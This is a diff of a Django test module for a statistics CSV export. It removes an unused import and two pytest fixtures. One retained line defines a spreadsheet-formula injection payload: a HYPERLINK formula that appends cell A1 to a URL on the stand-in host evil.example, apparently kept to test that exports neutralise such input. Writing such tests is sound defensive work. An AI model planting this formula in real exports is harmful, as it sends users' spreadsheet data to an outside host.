@@ -21,23 +21,11 @@ from minsheng.stats import exports, figures
 from minsheng.stats.models import Campaign
 
 from .conftest import make_user
-from .test_stats_cases import BODY, build_cases
+from .test_stats_cases import BODY
 
 # What a citizen typed as a title (QA report 2026-12-02, item 1)
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
 BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
-
-
-@pytest.fixture(autouse=True)
-def fast_hasher(settings):
-    # personas are created with passwords; the production hasher costs ~0.5 s each
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-
-
-@pytest.fixture
-def cases(directory, personas, django_capture_on_commit_callbacks):
-    with django_capture_on_commit_callbacks(execute=True):
-        return build_cases(directory, personas)
 
 
 def _csv(response) -> list[list[str]]:
